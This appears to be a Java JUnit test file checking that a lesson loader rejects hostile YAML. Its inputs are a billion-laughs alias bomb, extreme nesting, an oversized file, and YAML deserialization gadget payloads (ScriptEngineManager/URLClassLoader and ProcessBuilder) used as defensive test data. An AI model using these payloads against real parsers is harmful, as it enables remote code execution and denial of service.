package org.attentionlab.lesson;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Files written to hurt: each is refused quickly with one clear message, and nothing runs. */
class HostileYamlTest {

    static List<String> problems(Path root, String yaml) throws Exception {
        Path folder = LessonTexts.write(root, "04-cross-attention", yaml);
        LessonLoader.Result r = assertTimeoutPreemptively(Duration.ofSeconds(10), () -> new LessonLoader().load(folder));
        assertTrue(r.lesson().isEmpty());
        return r.problems().stream().map(p -> p.toString().substring(root.toString().length() + 1)).toList();
    }

    @Test
    void billionLaughsIsRefusedAtTheEleventhAlias(@TempDir Path root) throws Exception {
        StringBuilder y = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            char p = (char) (c - 1);
            y.append(c).append(": &").append(c).append(" [*").append(p).append(",*").append(p).append(",*").append(p).append(",*")
                    .append(p).append(",*").append(p).append(",*").append(p).append(",*").append(p).append(",*").append(p).append(",*")
                    .append(p).append("]\n");
        }
        assertEquals(List.of("04-cross-attention/lesson.yaml:3: more than 10 aliases (*b); a lesson may reuse at most 10 anchored values"),
                problems(root, y.toString()));
    }

    @Test
    void deepNestingIsRefusedBeforeTheComposerRecurses(@TempDir Path root) throws Exception {
        String deep = "id: x\nsteps: " + "[".repeat(100_000) + "]".repeat(100_000) + "\n";
        assertEquals(List.of("04-cross-attention/lesson.yaml:2: nesting is deeper than 32 levels; a lesson never needs that many"),
                problems(root, deep));
    }

    @Test
    void aFiveMegabyteFileIsNotRead(@TempDir Path root) throws Exception {
        String big = "id: big\n# " + "x".repeat(5 * 1024 * 1024) + "\n";
        assertEquals(List.of("04-cross-attention/lesson.yaml: the file is 5.0 MB; a lesson file may be at most 1 MB"
                + " (put long texts in Markdown files beside it)"), problems(root, big));
    }

    @Test
    void javaTagsAndAnyOtherTagsAreRefused(@TempDir Path root) throws Exception {
        assertEquals(List.of("04-cross-attention/lesson.yaml:2: the tag '!!javax.script.ScriptEngineManager' is not allowed:"
                        + " a lesson file is plain data (no YAML tags, nothing that can run code)"),
                problems(root, "id: x\nsummary: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n"));
        assertEquals(List.of("04-cross-attention/lesson.yaml:1: the tag '!!java/object:java.lang.ProcessBuilder' is not allowed:"
                        + " a lesson file is plain data (no YAML tags, nothing that can run code)"),
                problems(root, "id: !!java/object:java.lang.ProcessBuilder {command: [touch, /tmp/pwned]}\n"));
        assertEquals(List.of("04-cross-attention/lesson.yaml:1: the tag '!custom' is not allowed:"
                        + " a lesson file is plain data (no YAML tags, nothing that can run code)"),
                problems(root, "id: !custom x\n"));
    }

    @Test
    void aRecursiveAliasDoesNotLoop(@TempDir Path root) throws Exception {
        List<String> p = problems(root, LessonTexts.VALID.replace("keys: [[1, 0], [0, 1], [1, 1]]", "keys: &k [[1, 0], *k]"));
        assertEquals(1, p.size(), p.toString());
        assertTrue(p.get(0).startsWith("04-cross-attention/lesson.yaml:12: step 'weights': state 'keys' row 2, column 1 is a list; expected a number"), p.get(0));
    }

    @Test
    void brokenYamlNamesTheLine(@TempDir Path root) throws Exception {
        List<String> p = problems(root, "id: x\norder: 4\ntitle: {zh: 标题, en: [unclosed\n");
        assertEquals(1, p.size(), p.toString());
        assertTrue(p.get(0).startsWith("04-cross-attention/lesson.yaml:4: not valid YAML:"), p.get(0));
    }

    @Test
    void twoDocumentsAndNonUtf8AreRefused(@TempDir Path root) throws Exception {
        assertEquals(List.of("04-cross-attention/lesson.yaml:2: a second YAML document ('---'); a lesson file holds exactly one"),
                problems(root, "id: x\n---\nid: y\n"));
        Path folder = LessonTexts.folder(root, "05-latin");
        Files.write(folder.resolve("lesson.yaml"), new byte[] {'i', 'd', ':', ' ', (byte) 0xE9, '\n'});
        assertEquals("the file is not valid UTF-8; save it as UTF-8", new LessonLoader().load(folder).problems().get(0).message());
    }

    @Test
    void aLessonFileThatIsALinkOutOfItsFolderIsRefused(@TempDir Path root) throws Exception {
        Path outside = root.resolve("outside.yaml");
        Files.writeString(outside, LessonTexts.VALID);
        Path folder = LessonTexts.folder(root, "04-cross-attention");
        Files.createSymbolicLink(folder.resolve("lesson.yaml"), outside);
        assertEquals("is not a regular file inside the lesson folder (a link leading elsewhere?)",
                new LessonLoader().load(folder).problems().get(0).message());
    }
}
